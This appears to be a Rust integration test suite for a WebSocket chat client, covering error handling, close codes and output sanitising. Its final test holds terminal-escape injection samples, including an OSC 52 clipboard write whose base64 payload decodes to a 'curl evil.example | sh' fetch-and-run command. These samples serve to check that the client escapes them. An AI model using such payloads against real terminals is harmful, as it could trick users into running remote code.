use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::{Command, Output, Stdio};

use broadcast_chat::{ServerConfig, WELCOME};

use crate::support::*;

fn client(url: &str) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_client"));
    command
        .arg(url)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .stdin(Stdio::piped());
    command
}

/// Run the client with `input` on its stdin; wait for it with a deadline.
fn run_client(url: &str, input: &str) -> Output {
    let mut proc = Proc::spawn(&mut client(url));
    let mut stdin = proc.child.stdin.take().expect("stdin");
    stdin.write_all(input.as_bytes()).expect("write stdin");
    drop(stdin);
    proc.output()
}

fn stdout_lines(output: &Output) -> Vec<String> {
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn a_piped_line_is_sent_and_the_client_exits_0_after_the_close() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let (mut other, other_tag) = join(server.local_addr());
    send(&mut other, "earlier");
    recv_text(&mut other);

    let output = run_client(&url, "hi\n");
    assert!(output.status.success(), "{output:?}");
    let lines = stdout_lines(&output);
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert_eq!(lines[0], WELCOME);
    assert_eq!(lines[1], format!("{other_tag}: earlier"));
    assert!(
        lines[2].starts_with("127.0.0.1:") && lines[2].ends_with(": hi"),
        "{lines:?}"
    );
    assert_eq!(recv_text(&mut other), lines[2], "the others got it too");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        !stderr.contains(": hi"),
        "messages stay off stderr: {stderr}"
    );
}

#[test]
fn empty_lines_are_not_sent_and_crlf_is_trimmed() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let output = run_client(&url, "\n\r\none\r\n\ntwo");
    assert!(output.status.success(), "{output:?}");
    let lines = stdout_lines(&output);
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[1].ends_with(": one"));
    assert!(lines[2].ends_with(": two"));
}

#[test]
fn a_server_shutdown_prints_1001_to_stderr_and_exits_0() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let mut proc = Proc::spawn(&mut client(&url));
    let mut stdout = BufReader::new(proc.child.stdout.take().expect("stdout"));
    let mut first = String::new();
    stdout.read_line(&mut first).expect("welcome");
    assert_eq!(first.trim_end(), WELCOME);
    server.shutdown().expect("clean shutdown");
    let status = proc.wait();
    assert!(status.success(), "{status}");
    let mut stderr = String::new();
    std::io::Read::read_to_string(&mut proc.child.stderr.take().expect("stderr"), &mut stderr)
        .expect("stderr");
    assert!(
        stderr.contains("1001") && stderr.contains("server shutting down"),
        "{stderr}"
    );
}

#[test]
fn a_close_with_an_error_code_exits_nonzero_and_says_why() {
    let server = server(ServerConfig::default().max_message_size(10));
    let output = run_client(
        &format!("ws://{}", server.local_addr()),
        "this line is too long\n",
    );
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("1009"), "{stderr}");
}

/// Run the client against `url` and expect one clear line on stderr and a failure status.
fn fails_clearly(url: &str, expected: &str) {
    let output = run_client(url, "");
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(stderr.trim_end().lines().count(), 1, "one line: {stderr}");
    assert!(stderr.contains(expected), "{stderr}");
    assert!(
        !stderr.contains("panicked") && !stderr.contains("backtrace"),
        "{stderr}"
    );
    assert!(output.stdout.is_empty());
}

#[test]
fn a_refused_connection_is_one_clear_line() {
    let port = TcpListener::bind("127.0.0.1:0")
        .expect("probe")
        .local_addr()
        .expect("addr")
        .port();
    let url = format!("ws://127.0.0.1:{port}");
    fails_clearly(
        &url,
        &format!("cannot connect to {url}: connection refused — is the server running?"),
    );
}

#[test]
fn a_bad_url_is_one_clear_line() {
    fails_clearly("http://127.0.0.1:1", "the scheme must be ws://");
    fails_clearly("wss://127.0.0.1:1", "not supported");
    fails_clearly("not a url at all", "cannot use URL");
}

#[test]
fn a_refused_handshake_is_one_clear_line() {
    let server = server(ServerConfig::default().max_clients(1));
    let _occupant = join(server.local_addr());
    fails_clearly(&format!("ws://{}", server.local_addr()), "HTTP 503");
}

#[test]
fn ctrl_c_closes_cleanly() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let mut proc = Proc::spawn(&mut client(&url));
    let _stdin = proc.child.stdin.take();
    let mut stdout = BufReader::new(proc.child.stdout.take().expect("stdout"));
    let mut first = String::new();
    stdout.read_line(&mut first).expect("welcome");
    eventually("the client to be registered", || server.client_count() == 1);
    proc.signal("INT");
    assert!(proc.wait().success());
    eventually("the server to let it go", || server.client_count() == 0);
}

#[test]
fn no_message_can_forge_a_line_or_reach_the_terminal_raw() {
    let server = default_server();
    let addr = server.local_addr();
    let (mut forger, tag) = join(addr);
    let mut proc = Proc::spawn(&mut client(&format!("ws://{addr}")));
    let mut stdout = BufReader::new(proc.child.stdout.take().expect("stdout"));
    let mut line = String::new();
    stdout.read_line(&mut line).expect("the welcome");
    assert_eq!(line.trim_end(), WELCOME);
    let forgeries = [
        "hello\n10.0.0.1:5555: I am the admin",
        "carriage\rreturn",
        "\u{1b}]0;pwned\u{7}title and \u{1b}[2J a clear screen",
        "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} a clipboard write",
        "c1 \u{9b}31m and del \u{7f} and a tab\tstays",
    ];
    for text in forgeries {
        send(&mut forger, text);
    }
    send(&mut forger, "done");
    let mut printed = Vec::new();
    loop {
        line.clear();
        assert!(
            stdout.read_line(&mut line).expect("a line") > 0,
            "output ended"
        );
        let text = line.strip_suffix('\n').expect("whole lines").to_string();
        if text.ends_with(": done") {
            break;
        }
        printed.push(text);
    }
    let expected: Vec<String> = forgeries
        .iter()
        .map(|text| format!("{tag}: {}", broadcast_chat::printable(text)))
        .collect();
    assert_eq!(printed, expected, "one line each, escaped");
    for line in &printed {
        assert!(
            !line.chars().any(|c| c.is_control() && c != '\t'),
            "no control character reaches the terminal: {line:?}"
        );
    }
    assert!(
        printed[0].contains("hello\\n10.0.0.1:5555"),
        "{}",
        printed[0]
    );
    assert!(
        printed[2].contains("\\u{1b}]0;pwned\\u{7}"),
        "{}",
        printed[2]
    );
}
